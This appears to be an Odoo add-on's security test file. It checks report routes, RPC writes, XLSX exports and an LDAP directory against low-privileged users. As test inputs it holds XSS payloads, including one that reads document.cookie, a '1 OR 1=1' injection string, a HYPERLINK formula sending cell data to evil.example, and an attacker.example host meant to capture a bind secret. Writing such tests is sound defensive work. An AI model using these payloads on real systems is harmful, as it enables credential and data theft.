"""Adversarial tests through a running server, as low-privileged users (issue 13)."""

import io
import json
from urllib.parse import urlencode
from xmlrpc.client import Fault

from openpyxl import load_workbook

from odoo import Command
from odoo.tests import HttpCase, new_test_user, tagged

INJECTED = "sg-injected-markup"


@tagged("post_install", "-at_install")
class TestSecurityRoutes(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company_2 = cls.env["res.company"].create({"name": "Other Company SA"})
        cls.rep = new_test_user(cls.env, login="sg_sec_rep", groups="sysengage_crm_light.group_user")
        cls.manager = new_test_user(
            cls.env, login="sg_sec_manager", groups="sysengage_crm_light.group_manager,sales_team.group_sale_manager"
        )
        cls.customer = cls.env["res.partner"].create({"name": "Route Customer SA", "is_company": True})
        cls.foreign_customer = cls.env["res.partner"].create(
            {"name": "Foreign Secret AG", "is_company": True, "company_id": cls.company_2.id}
        )
        cls.template = cls.env["sysengage.document.template"].create(
            {
                "name": "Route letter",
                "subject": "Stored subject {{ object.name }}",
                "body_html": '<p>Stored body for <t t-out="object.name"/></p>',
            }
        )
        cls.env.flush_all()  # the report routes share the test cursor

    def _report_url(self, converter, options):
        report = "sysengage_crm_light.report_document_template"
        return f"/report/{converter}/{report}/{self.template.id}?{urlencode({'options': json.dumps(options)})}"

    def test_report_html_renders_stored_template_not_url_markup(self):
        self.authenticate("sg_sec_rep", "sg_sec_rep")
        options = {
            "record_model": "res.partner",
            "record_id": self.customer.id,
            "subject": f"<img src=x onerror=alert(1)>{INJECTED}",
            "body": f"<script>alert(document.cookie)</script><b>{INJECTED}</b>",
        }
        response = self.url_open(self._report_url("html", options))
        self.assertEqual(response.status_code, 200)
        self.assertNotIn(INJECTED, response.text)
        self.assertNotIn("<script>alert", response.text)
        self.assertIn("Stored subject Route Customer SA", response.text)
        self.assertIn("Stored body for Route Customer SA", response.text)

    def test_report_stored_script_is_sanitized(self):
        self.template.body_html = f'<p>Hello</p><script>var x = "{INJECTED}";</script><a href="#" onclick="go()">x</a>'
        self.env.flush_all()
        self.authenticate("sg_sec_rep", "sg_sec_rep")
        response = self.url_open(
            self._report_url("html", {"record_model": "res.partner", "record_id": self.customer.id})
        )
        self.assertEqual(response.status_code, 200)
        self.assertIn("Hello", response.text)
        self.assertNotIn(INJECTED, response.text)
        self.assertNotIn("onclick", response.text)

    def test_report_refuses_records_the_user_cannot_read_or_other_models(self):
        self.authenticate("sg_sec_rep", "sg_sec_rep")
        for options in (
            {"record_model": "res.partner", "record_id": self.foreign_customer.id},
            {"record_model": "res.users", "record_id": self.manager.id},
            {"record_model": "res.partner", "record_id": "1 OR 1=1"},
        ):
            with self.subTest(options=options), self.assertLogs("odoo.http", "WARNING"):
                response = self.url_open(self._report_url("html", options))
                self.assertNotEqual(response.status_code, 200)
                self.assertNotIn("Foreign Secret AG", response.text)

    def test_reminder_automation_not_writable_through_rpc(self):
        victim = self.env["base.automation"].create(
            {
                "name": "Victim automation",
                "model_id": self.env["ir.model"]._get_id("res.partner"),
                "trigger": "on_create",
            }
        )
        rule = (
            self.env["sysengage.reminder.rule"]
            .with_user(self.manager)
            .create(
                {
                    "name": "Idle",
                    "kind": "lead_no_activity",
                    "delay": 7,
                    "activity_type_id": self.env.ref("mail.mail_activity_data_todo").id,
                }
            )
        )
        own = rule.sudo().automation_id
        self.assertEqual(own.sysengage_reminder_rule_id, rule)
        self.env.flush_all()
        db = self.env.cr.dbname
        uid = self.manager.id
        rpc = self.xmlrpc_object.execute_kw
        with self.assertRaises(Fault) as error:
            rpc(
                db, uid, "sg_sec_manager", "sysengage.reminder.rule", "write", [[rule.id], {"automation_id": victim.id}]
            )
        self.assertIn("managed by the reminder itself", error.exception.faultString)
        with self.assertRaises(Fault):
            rpc(
                db,
                uid,
                "sg_sec_manager",
                "sysengage.reminder.rule",
                "create",
                [
                    {
                        "name": "Hijack",
                        "kind": "lead_no_activity",
                        "delay": 3,
                        "activity_type_id": self.env.ref("mail.mail_activity_data_todo").id,
                        "automation_id": victim.id,
                    }
                ],
            )
        # the rule's own code still maintains its own automation, and deletes only that one
        rpc(db, uid, "sg_sec_manager", "sysengage.reminder.rule", "write", [[rule.id], {"delay": 9}])
        self.assertEqual(own.trg_date_range, 9)
        self.assertEqual((victim.name, victim.trigger), ("Victim automation", "on_create"))
        rpc(db, uid, "sg_sec_manager", "sysengage.reminder.rule", "unlink", [[rule.id]])
        self.assertFalse(own.exists())
        self.assertTrue(victim.exists())

    def test_reminder_pointing_to_a_foreign_automation_leaves_it_alone(self):
        victim = self.env["base.automation"].create(
            {"name": "Victim", "model_id": self.env["ir.model"]._get_id("res.partner"), "trigger": "on_create"}
        )
        rule = self.env["sysengage.reminder.rule"].create(
            {
                "name": "Idle",
                "kind": "lead_no_activity",
                "activity_type_id": self.env.ref("mail.mail_activity_data_todo").id,
            }
        )
        # e.g. a link written before the guard existed
        rule.sudo().automation_id = victim
        rule.delay = 5
        self.assertNotEqual(rule.automation_id, victim, "a new automation of its own replaces the foreign link")
        self.assertEqual(victim.trigger, "on_create")
        rule.unlink()
        self.assertTrue(victim.exists())

    def test_indicator_xlsx_writes_formula_like_names_as_text(self):
        evil = '=HYPERLINK("https://evil.example/"&A1,"Open")'
        partner = self.env["res.partner"].create({"name": evil, "is_company": True})
        self.env["crm.lead"].create(
            {"name": "Formula deal", "type": "opportunity", "partner_id": partner.id, "expected_revenue": 100.0}
        )
        indicator = self.env["sysengage.indicator"].create(
            {
                "name": "By customer",
                "source": "opportunity",
                "measure": "revenue",
                "grouping": "customer",
                "date_range": "all",
                "filter_domain": repr([("partner_id", "=", partner.id)]),
                "company_id": False,
            }
        )
        self.env.flush_all()
        self.authenticate("sg_sec_manager", "sg_sec_manager")
        response = self.url_open(f"/sysengage_crm_light/indicator/{indicator.id}/xlsx")
        self.assertEqual(response.status_code, 200)
        sheet = load_workbook(io.BytesIO(response.content)).active
        cell = sheet["A4"]
        self.assertEqual(cell.value, evil)
        self.assertEqual(cell.data_type, "s", "a customer name is never a live formula")


@tagged("post_install", "-at_install")
class TestSecurityLdapSecret(HttpCase):
    """The bind secret never follows a host or TLS change made by someone who cannot see it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.manager = new_test_user(cls.env, login="sg_ldap_manager", groups="sysengage_crm_light.group_manager")
        cls.directory = cls.env["sysengage.ldap.directory"].create(
            {
                "name": "Corp directory",
                "host": "ldap.corp.example",
                "bind_dn": "cn=reader,dc=corp",
                "bind_password": "top-secret",
                "base_dn": "dc=corp",
                "mapping_ids": [Command.clear()],
            }
        )
        cls.env.flush_all()

    def _rpc(self, method, *args):
        return self.xmlrpc_object.execute_kw(
            self.env.cr.dbname, self.manager.id, "sg_ldap_manager", "sysengage.ldap.directory", method, list(args)
        )

    def test_manager_cannot_redirect_the_bind_secret(self):
        for vals in ({"host": "attacker.example"}, {"port": 1389}, {"tls_mode": "none"}, {"tls_verify": False}):
            with self.subTest(vals=vals), self.assertRaises(Fault) as error:
                self._rpc("write", [self.directory.id], vals)
            self.assertIn("system administrator", error.exception.faultString)
        self.assertEqual(self.directory.host, "ldap.corp.example")
        self.assertEqual(self.directory.sudo().bind_password, "top-secret")
        # a field without a secret at stake stays editable by the manager
        self._rpc("write", [self.directory.id], {"search_filter": "(objectClass=person)"})
        self.assertEqual(self.directory.search_filter, "(objectClass=person)")
